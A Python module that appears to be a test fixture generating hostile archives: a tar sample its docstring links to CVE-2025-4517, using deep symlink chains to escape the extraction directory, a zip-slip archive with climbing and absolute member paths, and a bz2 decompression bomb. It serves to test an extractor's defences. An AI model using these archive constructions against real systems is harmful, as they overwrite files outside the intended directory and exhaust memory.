"""Archives that do harm when they are opened."""

from __future__ import annotations

import bz2
import gzip
import io
import tarfile
import zipfile


def escaping_tar() -> bytes:
    """The sample of CVE-2025-4517: links so deep that a path's real end is not seen."""
    deep, file = "d" * 247, io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as tar:

        def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(data)
            tar.addfile(info, io.BytesIO(data))

        path, steps = "", "abcdefghijklmnop"
        for step in steps:
            add(f"{path}{deep}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, deep)
            path += f"{deep}/"
        link = "/".join(steps) + "/" + "l" * 254
        add(link, tarfile.SYMTYPE, "../" * len(steps))
        add("escape", tarfile.SYMTYPE, f"{link}/../../../../../../../tmp")
        add("flag", tarfile.LNKTYPE, "escape/edgefleet-escaped")
        add("flag", tarfile.REGTYPE, data=b"escaped")
        add("../../escaped", tarfile.REGTYPE, data=b"escaped")
    return file.getvalue()


def climbing_zip() -> bytes:
    """A zip whose members climb out."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name in ("../../escaped", "/tmp/edgefleet-escaped", "model.onnx"):
            archive.writestr(name, b"escaped")
    return file.getvalue()


ARCHIVES = {
    "tar": escaping_tar,
    "tar.gz": lambda: gzip.compress(escaping_tar()),
    "zip": climbing_zip,
    "bz2 bomb": lambda: bz2.compress(bytes(100_000_000)),
}
